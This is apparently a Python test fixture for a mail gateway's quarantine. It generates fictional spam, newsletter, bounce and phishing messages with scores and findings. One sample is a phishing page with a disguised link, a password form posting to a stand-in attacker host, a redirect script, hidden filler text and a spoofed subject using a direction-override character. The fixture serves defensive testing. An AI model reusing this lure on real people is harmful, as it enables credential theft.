"""mail: a day of made-up mail in the stores of a gateway, for pictures and for tests of the pages.

Nothing in it is real: names end in `.example`. Verdicts are those to which the policy comes for the findings.
"""

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, formataddr
from hashlib import sha256
from unittest import mock

from gatekeeper.pipeline.policy import Policy
from gatekeeper.quarantine import Hold, Quarantine
from gatekeeper.stores.journal import Journal
from gatekeeper.values import Action, Authenticated, Client, Envelope, Fate, Finding, Outcome, Record, new_id

ANNA, BOB, SALES = "anna@company.example", "bob@company.example", "sales@company.example"
HOP = "[10.0.0.5]:25"

_NEWSLETTER = """\
<body bgcolor="#eef1f4"><table width="100%" cellpadding="0"><tr><td align="center">
<table width="560" bgcolor="#ffffff"><tr><td style="background:#20445c;color:#fff;padding:18px">
<h2 style="margin:0">Garden &amp; House</h2></td></tr><tr><td style="padding:20px;font-family:Georgia,serif">
<p>Dear Anna,</p><p>the bulbs are in: tulips, narcissi and the first snowdrops. This week we pay the postage.</p>
<p><img src="https://track.garden.example/open.gif?u=77123" width="1" height="1">
<img src="https://pictures.garden.example/tulips.jpg" width="500" height="160" alt="Tulips in a row"></p>
<p><a href="https://garden.example/offers?c=77123" style="background:#2f6f5e;color:#fff;padding:10px 18px">See all
offers</a></p></td></tr><tr><td style="padding:12px;color:#777;font-size:12px"><a
href="https://garden.example/leave">Unsubscribe</a></td></tr></table></td></tr></table></body>"""
_PHISHING = """\
<body style="font-family:Arial"><div style="border-top:5px solid #003087;padding:16px"><h3>Your account is limited</h3>
<p>Dear customer, we noticed an unusual sign-in. Confirm within 24 hours:</p>
<p><a href="https://bank.example.secure-login.evil.example/confirm?id=1f3a">https://www.bank.example/confirm</a></p>
<form action="https://evil.example/take"><input name="password" type="password"><button>Confirm</button></form>
<p style="display:none">meeting minutes budget invoice regards translation kitchen garden</p>
<script>document.location = "https://evil.example/"</script></div></body>"""

_SOMEBODY = Client("203.0.113.77", "mail.out.example", 40112)


@dataclass(frozen=True, slots=True)
class Sample:
    """A message that is held, and why. `hours` is how long ago it came."""

    hours: float
    author: str
    address: str
    subject: str
    findings: tuple[Finding, ...]
    recipients: tuple[str, ...] = (ANNA,)
    text: str = "Please see below.\n"
    page: str = ""
    attachment: tuple[str, str, bytes] | None = None
    client: Client = _SOMEBODY


def _f(name: str, score: float, evidence: str = "", **more: object) -> Finding:
    return Finding(name, score, evidence, **more)  # type: ignore[arg-type]


_SPF = Authenticated("spf", "fail", "evil.example")
SAMPLES = (
    Sample(
        0.3,
        "Garden & House",
        "news@garden.example",
        "Bulbs are in: this week we pay the postage",
        (
            _f("campaign-reported", 5.5, "like 3 messages that were reported since Tuesday"),
            _f("bayes-spam", 3.2, "0.981 by 14 words: offers, postage, week, unsubscribe"),
            _f("spf-pass", -0.2, "garden.example names 203.0.113.20"),
        ),
        (ANNA, BOB),
        "Dear Anna,\n\nthe bulbs are in: tulips, narcissi and the first snowdrops.\nThis week we pay the postage.\n",
        _NEWSLETTER,
        client=Client("203.0.113.20", "mta1.garden.example", 51000),
    ),
    Sample(
        0.8,
        "Bank Service",
        "service@evil.example",
        "Your account is limited \u202eelpmaxe.knab",
        (
            _f("link-mismatch", 4.0, "shows www.bank.example, leads to evil.example"),
            _f("spf-fail", 3.0, "evil.example does not name 198.51.100.9", result=_SPF),
            _f("hidden-text", 2.5, "meeting minutes budget invoice regards"),
            _f("dnsbl-listed", 2.0, "198.51.100.9 in bl.lists.example"),
            _f("helo-dynamic", 1.0, "dsl-9-100-51-198.dynamic.example"),
        ),
        text="Confirm your account: https://www.bank.example/confirm\n",
        page=_PHISHING,
        client=Client("198.51.100.9", "", 32100),
    ),
    Sample(
        1.4,
        "Parcel Express",
        "billing@parcel.example",
        "Invoice 2026-1104",
        (
            _f("banned-attachment", 0.0, "invoice.pdf.exe is a program", certain=Action.QUARANTINE, danger=True),
            _f("double-extension", 3.0, "invoice.pdf.exe"),
        ),
        (BOB,),
        "Your invoice is attached.\n",
        attachment=("invoice.pdf.exe", "application/octet-stream", b"MZ\x90\0" + bytes(9000)),
    ),
    Sample(
        2.2,
        "",
        "",
        "Undelivered Mail Returned to Sender",
        (_f("sender-held", 0.0, "an entry has bounces held", certain=Action.QUARANTINE),),
        (SALES,),
        "I'm sorry to have to inform you that your message could not be delivered.\n",
    ),
    Sample(
        3.1,
        "Dr. Elena Ruiz",
        "elena@partner.example",
        "Angebot für die Übersetzung, 2. Fassung",
        (
            _f("greylist-passed", -0.3, "after 312 seconds"),
            _f("bayes-spam", 4.1, "0.992 by 11 words: offer, translation, price, urgent"),
            _f("dnsbl-listed", 4.0, "203.0.113.5 in bl.lists.example"),
            _f("spf-softfail", 0.8, "partner.example", result=Authenticated("spf", "softfail", "partner.example")),
            _f("dkim-none", 0.0, "", result=Authenticated("dkim", "none")),
        ),
        text="Liebe Anna,\n\nhier unser Angebot in der 2. Fassung. Der Preis gilt bis Freitag.\n\nViele Grüße\nElena\n",
        client=Client("203.0.113.5", "smtp.partner.example", 44444),
    ),
    Sample(
        4.0,
        "friend",
        "friend@infected.example",
        "Pictures of our holiday!",
        (_f("virus-found", 0.0, "Win.Test.EICAR_HDB-1", certain=Action.QUARANTINE, danger=True),),
        (BOB,),
        attachment=("pictures.zip", "application/zip", b"PK\3\4" + bytes(4000)),
    ),
)
_MORE = (
    ("Lottery Office", "win@prize.example", "You have won 2.500.000 EUR", "bayes-spam", 6.1),
    ("Watches 4 U", "offers@watches.example", "Swiss replica watches, 80 % off", "uribl-listed", 5.0),
    ("HR Department", "hr@company-portal.example", "Updated salary table 2026", "borrowed-name", 5.2),
    ("SEO Expert", "jane@ranking.example", "Your website can be number 1", "bayes-spam", 5.9),
    ("Newsletter", "info@fairs.example", "Trade fairs in spring: last free places", "pyzor-reported", 6.0),
    ("Crypto Daily", "daily@coins.example", "This coin is about to explode", "campaign-reported", 6.4),
    ("Mail Administrator", "admin@quota.example", "Mailbox almost full: 98 % used", "link-lookalike", 5.5),
    ("Anna Berg", "anna.berg@freemail.example", "Are you at your desk?", "borrowed-name", 6.2),
)


def fill(quarantine: Quarantine, journal: Journal, now: float, records: int = 1500) -> dict[str, str]:
    """A day of mail up to `now`; the ids of what is held by its subject, of several the newest."""
    chance = random.Random(7)
    samples = sorted([*SAMPLES, *_further(chance)], key=lambda sample: -sample.hours)
    kept = [_hold(quarantine, sample, now - 3600 * sample.hours) for sample in samples]
    passed = [_passed(chance, now) for _ in range(records)]
    for record in sorted([*kept, *passed], key=lambda record: record.envelope.received_at):
        journal.record(record)
    assert journal.flush()
    return {sample.subject: record.envelope.id for sample, record in zip(samples, kept, strict=True)}


def _further(chance: random.Random) -> Iterator[Sample]:
    for n in range(64):
        author, address, subject, name, score = _MORE[n % len(_MORE)]
        findings = (
            _f(name, score, "0.97 by 12 words" if name.startswith("bayes") else address),
            _f("dnsbl-listed", 3.0, "198.51.100.40 in bl.lists.example"),
            _f("spf-none", 0.1),
        )
        recipient = (ANNA, BOB, SALES)[n % 3]
        yield Sample(0.5 + n * 0.36 + chance.random() * 0.2, author, address, subject, findings, (recipient,))


def _hold(quarantine: Quarantine, sample: Sample, at: float) -> Record:
    raw = message(sample, at)
    verdicts = {address: Policy().judge(address, sample.findings) for address in sample.recipients}
    verdicts = {a: replace(v, action=Action.QUARANTINE) for a, v in verdicts.items()}
    envelope = Envelope(
        _id(at),
        "smtp",
        sample.client,
        sample.client,
        helo=sample.client.name or "mail",
        protocol="ESMTP",
        sender=sample.address,
        recipients=sample.recipients,
        received_at=at,
    )
    digest = sha256(raw).hexdigest()
    with mock.patch("time.time", return_value=at):
        quarantine.hold(Hold(envelope, verdicts, [raw], digest))
    quarantine.confirm(envelope.id)
    outcomes = dict.fromkeys(sample.recipients, Outcome(Fate.HELD, "", "250 2.0.0 held for review"))
    return Record(envelope, verdicts, outcomes, (), len(raw), digest, seconds=0.011)


def message(sample: Sample, at: float) -> bytes:
    """As it came."""
    made = EmailMessage(policy=SMTP)
    made["From"] = formataddr((sample.author, sample.address or "mailer-daemon@out.example"))
    made["To"] = ", ".join(sample.recipients)
    made["Subject"] = sample.subject
    made["Date"] = format_datetime(datetime.fromtimestamp(at, UTC))
    made["Message-ID"] = f"<{int(at)}@{(sample.address or 'x@out.example').rpartition('@')[2]}>"
    made.set_content(sample.text)
    if sample.page:
        made.add_alternative(sample.page, subtype="html")
    if sample.attachment:
        name, kind, data = sample.attachment
        made.add_attachment(data, *kind.split("/"), filename=name)
    return made.as_bytes()


def _passed(chance: random.Random, now: float) -> Record:
    """One of the many messages that nobody need look at: more by day than by night."""
    hour = min(chance.triangular(0, 24, 9), chance.uniform(0, 24))
    at = now - hour * 3600
    action = chance.choices([*Action], (62, 8, 0, 24, 4, 2))[0]
    reason = "clean" if action is Action.ACCEPT else chance.choice(_REASONS[action])
    sender = f"{chance.choice(_NAMES)}@{chance.choice(_PLACES)}.example"
    recipient = chance.choice((ANNA, BOB, SALES, "info@company.example"))
    client = Client(f"192.0.2.{chance.randrange(1, 250)}", "", 1025)
    envelope = Envelope(_id(at), "smtp", client, client, sender=sender, recipients=(recipient,), received_at=at)
    score = {Action.ACCEPT: 0.4, Action.TAG: 6.1}.get(action, 16.5)
    verdict = Policy().judge(recipient, [Finding(reason, score)])
    outcome = (
        Outcome(Fate.DELIVERED, HOP, "250 2.0.0 Ok: queued") if action.hands_on else Outcome(Fate.REFUSED, "", "550")
    )
    verdicts = {recipient: replace(verdict, action=action, reason=reason)}
    return Record(
        envelope, verdicts, {recipient: outcome}, (), chance.randrange(2000, 90_000), "ab" * 32, seconds=0.004
    )


def _id(at: float) -> str:
    """The id of a message that came then."""
    with mock.patch("time.time", return_value=at):
        return new_id()


_REASONS: dict[Action, Sequence[str]] = {
    Action.TAG: ("bayes-spam", "spf-softfail", "helo-dynamic"),
    Action.REJECT: ("dnsbl-listed", "recipient-unknown", "bayes-spam", "sender-domain-missing", "uribl-listed"),
    Action.DEFER: ("greylisted", "rate-exceeded"),
    Action.DISCARD: ("access-discarded",),
}
_NAMES = ("kim", "lee", "office", "noreply", "order", "maria", "paul", "billing", "news")
_PLACES = ("partner", "shop", "travel", "bank", "school", "press", "parts", "cloud")
